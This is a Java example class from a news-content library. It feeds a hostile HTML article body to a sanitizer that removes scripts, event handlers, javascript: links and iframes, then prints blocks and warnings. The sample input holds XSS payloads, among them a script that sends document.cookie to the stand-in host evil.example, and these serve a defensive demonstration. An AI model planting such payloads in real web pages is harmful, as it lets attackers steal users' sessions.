package io.github.newsmodel.examples;

import io.github.newsmodel.json.JsonProblem;
import io.github.newsmodel.json.html.HtmlBodies;
import io.github.newsmodel.json.html.HtmlConversion;
import java.io.PrintStream;

/**
 * Hostile HTML from a content management system turned into newsmodel blocks with {@link
 * HtmlBodies}: scripts, event handlers, {@code javascript:} links and iframes are dropped with a
 * warning each, unknown elements are unwrapped, and the blocks are written back as canonical HTML.
 *
 * <p>Run: {@code java -cp examples/target/newsmodel.jar
 * io.github.newsmodel.examples.HtmlBodyExample}
 */
public final class HtmlBodyExample {

  /** An article body as a careless or hostile CMS might deliver it. */
  public static final String HOSTILE_HTML =
      """
      <h1 onclick="steal()">Конференция ДЗЯО</h1>
      <script>document.location='https://evil.example/?c='+document.cookie</script>
      <p style="color:red">Делегацию возглавил <b>Мурат Нуртлеу</b>,
        <a href="javascript:alert(1)">подробнее</a>.</p>
      <iframe src="https://evil.example/frame"></iframe>
      <font face="Arial"><p>Источник: <a href="https://www.gov.kz/memleket/entities/mfa">МИД РК</a></p></font>
      <figure><img src="https://news.example.kz/images/dzyao-2023-1200.jpg" onerror="steal()"></figure>
      <ul><li>разоружение</li><li>нераспространение</li></ul>
      """;

  private HtmlBodyExample() {}

  /**
   * Converts {@link #HOSTILE_HTML} to blocks and back, printing the blocks, the warnings and the
   * canonical HTML.
   *
   * @param out where to print
   * @return the conversion
   */
  public static HtmlConversion run(PrintStream out) {
    HtmlConversion conversion = HtmlBodies.toBlocks(HOSTILE_HTML, "/body");
    out.println(conversion.blocks().size() + " block(s):");
    conversion.blocks().forEach(block -> out.println("  " + block));
    out.println(conversion.warnings().size() + " warning(s):");
    for (JsonProblem warning : conversion.warnings()) {
      out.println("  [" + warning.code() + "] " + warning.message());
    }
    out.println("canonical HTML:");
    out.println(HtmlBodies.toHtml(conversion.blocks()));
    return conversion;
  }

  /**
   * Runs the example.
   *
   * @param args ignored
   */
  public static void main(String[] args) {
    run(System.out);
  }
}
